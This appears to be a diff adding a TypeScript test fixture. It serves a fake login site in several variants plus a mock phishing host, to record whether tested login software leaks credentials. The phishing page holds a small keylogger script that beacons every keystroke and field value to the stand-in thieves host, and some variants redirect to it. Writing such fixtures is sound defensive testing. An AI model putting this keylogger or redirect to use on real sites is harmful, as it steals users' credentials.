@@ -1,0 +1,119 @@
+// A site that tests log in at, by hosts that each behave in their own way, and a site of thieves. Everything that either gets is recorded.
+import { randomBytes, randomInt } from 'node:crypto'
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
+import { text } from 'node:stream/consumers'
+import { serveSockets } from './upstreams.ts'
+import { totpCode } from '../logins/totp.ts'
+
+const DOMAIN = 'canary-site.test'
+const THIEVES = 'canary-site-login.evil.test'
+const BASE32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'
+/** After which a page that waits answers by itself: what holds it has been forgotten. */
+const HELD_MS = 20_000
+
+/** `plain`: name and password. `two`: on two pages. `totp`: a code besides. `lured`: leads to the thieves. `fleeing`: goes to the thieves when a field gets the focus. */
+export type CanaryHost = 'plain' | 'two' | 'totp' | 'lured' | 'fleeing'
+
+export interface CanaryUser {
+  username: string
+  password: string
+  totpSecret: string
+}
+
+/** What nobody else can have written by chance. Letters of the name have different widths. */
+export function canaries(): CanaryUser {
+  return {
+    username: `wilmi${randomBytes(4).toString('hex')}mil`,
+    password: `Canary-${randomBytes(10).toString('hex')}`,
+    totpSecret: Array.from({ length: 32 }, () => BASE32[randomInt(32)]).join(''),
+  }
+}
+
+export interface CanarySite extends AsyncDisposable {
+  port: number
+  hosts: string[]
+  hostOf(name: CanaryHost): string
+  requests: { host: string; method: string; path: string; body: string }[]
+  /** What the thieves were sent: everything but the requests for their page itself. */
+  stolen(): string[]
+  /** How often a password was sent to a host of the site. */
+  tries(name: CanaryHost): number
+  /** From now on, forms with a password are answered when the returned function is called: their page stays as it is, filled, until then. */
+  hold(): () => void
+}
+
+const page = (body: string) =>
+  `<!doctype html><html lang="en"><title>Canary</title><style>body{margin:20px;font:16px monospace;caret-color:transparent}
+  input{display:block;width:500px;height:40px;border:0;outline:0;margin:10px 0;font:28px monospace;background:#ff0}</style>${body}</html>`
+const USER = '<label>User name <input name="username" autocomplete="username"></label>'
+const PASSWORD = '<label>Password <input name="password" type="password" autocomplete="current-password"></label>'
+const form = (action: string, fields: string, error = '') =>
+  page(`<h1>Log in</h1>${error && `<p role="alert">${error}</p>`}<form method="post" action="${action}">${fields}<button>Log in</button></form>`)
+const CODE = '<label>Code of your authenticator app <input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code"></label>'
+/** Sends every key and every value of its fields home. */
+const THIEF = `${form('/login', USER + PASSWORD)}<script>
+const tell = (what) => navigator.sendBeacon('/key', what)
+addEventListener('keydown', (event) => tell(event.key), true)
+addEventListener('input', (event) => tell(event.target.value), true)
+document.querySelector('input').focus()</script>`
+
+export async function startCanarySite(user: CanaryUser): Promise<CanarySite> {
+  const requests: CanarySite['requests'] = []
+  const sessions = new Map<string, Set<string>>()
+  let held: Promise<void> | undefined
+
+  async function answer(incoming: IncomingMessage, reply: ServerResponse): Promise<void> {
+    const host = incoming.headers.host!.replace(/:\d+$/, '')
+    const { pathname } = new URL(incoming.url!, 'http://x')
+    const body = incoming.method === 'POST' ? await text(incoming) : ''
+    requests.push({ host, method: incoming.method!, path: incoming.url!, body })
+    const show = (html: string) => reply.setHeader('cache-control', 'no-store').setHeader('content-type', 'text/html; charset=utf-8').end(html)
+    if (host === THIEVES) return void show(THIEF)
+    const name = host.replace(`.${DOMAIN}`, '') as CanaryHost
+    const sent = new URLSearchParams(body)
+    const key = /canary_session=(\w+)/.exec(incoming.headers.cookie ?? '')?.[1] ?? randomBytes(16).toString('hex')
+    const steps = sessions.get(key) ?? new Set<string>()
+    const go = (location: string, mark: string) => {
+      sessions.set(key, steps.add(mark))
+      reply.writeHead(303, { location, 'set-cookie': `canary_session=${key}; Path=/; HttpOnly; Max-Age=86400` }).end()
+    }
+    if (sent.has('password') && held) await held
+    if (steps.has('in')) return void show(page('<h1>Welcome</h1><a href="/logout">Log out</a>'))
+    if (name === 'lured') return void reply.writeHead(303, { location: `http://${THIEVES}/login` }).end()
+    if (pathname === '/code' && steps.has('password')) {
+      if (sent.get('code') === totpCode(user.totpSecret)) return go('/', 'in')
+      return void show(form('/code', CODE, body && 'That code is wrong.'))
+    }
+    if (name === 'two' && sent.has('username')) return go('/password', 'name')
+    if (sent.has('password')) {
+      const isRight = sent.get('password') === user.password && (name === 'two' ? steps.has('name') : sent.get('username') === user.username)
+      if (isRight) return name === 'totp' ? go('/code', 'password') : go('/', 'in')
+    }
+    const error = sent.has('password') ? 'The user name or the password is wrong.' : ''
+    if (name === 'two') return void show(pathname === '/password' && steps.has('name') ? form('/password', PASSWORD, error) : form('/login', USER))
+    const flee = name === 'fleeing' ? `<script>addEventListener('focusin', () => (location = 'http://${THIEVES}/login'))</script>` : ''
+    show(form('/login', USER + PASSWORD, error) + flee)
+  }
+
+  const served = await serveSockets(createServer((incoming, reply) => void answer(incoming, reply).catch(() => reply.destroy())))
+  const hostOf = (name: CanaryHost) => `${name}.${DOMAIN}`
+  return {
+    port: served.port,
+    hosts: [...(['plain', 'two', 'totp', 'lured', 'fleeing'] as const).map(hostOf), THIEVES],
+    hostOf,
+    requests,
+    stolen: () => requests.filter(({ host, body }) => host === THIEVES && body !== '').map(({ body }) => body),
+    tries: (name) => requests.filter(({ host, body }) => host === hostOf(name) && new URLSearchParams(body).has('password')).length,
+    hold() {
+      const { promise, resolve } = Promise.withResolvers<void>()
+      const timer = setTimeout(resolve, HELD_MS)
+      held = promise
+      return () => {
+        held = undefined
+        clearTimeout(timer)
+        resolve()
+      }
+    },
+    [Symbol.asyncDispose]: () => served[Symbol.asyncDispose](),
+  }
+}
